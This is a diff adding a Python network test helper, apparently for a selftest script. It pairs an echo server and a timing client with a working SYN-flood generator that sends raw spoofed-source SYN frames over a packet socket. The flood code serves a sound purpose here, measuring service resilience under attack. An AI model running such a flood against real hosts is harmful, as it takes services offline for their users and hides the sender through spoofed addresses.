@@ -1,0 +1,128 @@
+#!/usr/bin/python3
+# SPDX-License-Identifier: GPL-2.0
+"""SYN flood, legitimate service and client of tests/net/flood.sh.
+
+  synflood IFNAME DMAC SRC DST PORTS SECS
+                        raw SYN frames on IFNAME to DST, round robin over
+                        PORTS (comma-separated), from SRC or, if SRC is
+                        "random", from random sources in 198.18.0.0/15,
+                        for SECS seconds; prints "sent=N pps=N"
+  serve PORT            echo server on PORT (v4 and v6), one thread per
+                        connection: no process start per request
+  client HOST PORT      forever: connect, send a line, read it back, all
+                        within 5 s; prints "START_TIME OK SECONDS" per
+                        request (OK 1 or 0), one request every 0.3 s
+"""
+import random
+import socket
+import struct
+import sys
+import threading
+import time
+
+LIMIT = 5.0
+
+
+def echo(c):
+    with c:
+        c.settimeout(10)
+        try:
+            while True:
+                d = c.recv(4096)
+                if not d:
+                    return
+                c.sendall(d)
+        except OSError:
+            return
+
+
+def serve(port):
+    s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
+    s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+    s.bind(("::", port))
+    s.listen(128)
+    while True:
+        c, _ = s.accept()
+        threading.Thread(target=echo, args=(c,), daemon=True).start()
+
+
+def request(host, port):
+    start = time.monotonic()
+    try:
+        with socket.create_connection((host, port), timeout=LIMIT) as s:
+            s.settimeout(max(0.01, LIMIT - (time.monotonic() - start)))
+            s.sendall(b"legit\n")
+            got = b""
+            while not got.endswith(b"\n"):
+                d = s.recv(100)
+                if not d:
+                    break
+                got += d
+        return got == b"legit\n" and time.monotonic() - start <= LIMIT
+    except OSError:
+        return False
+
+
+def client(host, port):
+    while True:
+        t = time.time()
+        ok = request(host, port)
+        print("%.3f %d %.3f" % (t, ok, time.time() - t), flush=True)
+        time.sleep(0.3)
+
+
+def csum(data):
+    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    while s >> 16:
+        s = (s & 0xFFFF) + (s >> 16)
+    return ~s & 0xFFFF
+
+
+def syn(src, dst, sport, dport):
+    tcp = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0,
+                      5 << 4, 0x02, 64240, 0, 0)
+    c = csum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
+    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, random.getrandbits(16),
+                     0, 64, 6, 0, src, dst)
+    return ip[:10] + struct.pack("!H", csum(ip)) + ip[12:] + tcp
+
+
+def synflood(ifname, dmac, src, dst, ports, secs):
+    smac = open("/sys/class/net/%s/address" % ifname).read().strip()
+    head = bytes.fromhex((dmac + smac).replace(":", "")) + b"\x08\x00"
+    ports = [int(p) for p in ports.split(",")]
+    d = socket.inet_aton(dst)
+    frames = []
+    for i in range(8192):
+        s = (socket.inet_aton(src) if src != "random" else
+             struct.pack("!I", 0xC6120000 | random.getrandbits(17)))
+        frames.append(head + syn(s, d, 1024 + random.getrandbits(15) +
+                                 random.getrandbits(14),
+                                 ports[i % len(ports)]))
+    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    sock.bind((ifname, 0))
+    n = 0
+    start = time.monotonic()
+    end = start + secs
+    while time.monotonic() < end:
+        for f in frames[n % 8192:n % 8192 + 256]:
+            sock.send(f)
+        n += 256
+    print("sent=%d pps=%d" % (n, n / (time.monotonic() - start)))
+
+
+def main(argv):
+    if argv[1] == "synflood":
+        synflood(argv[2], argv[3], argv[4], argv[5], argv[6], float(argv[7]))
+    elif argv[1] == "serve":
+        serve(int(argv[2]))
+    elif argv[1] == "client":
+        client(argv[2], int(argv[3]))
+    else:
+        sys.exit(__doc__)
+
+
+if __name__ == "__main__":
+    main(sys.argv)
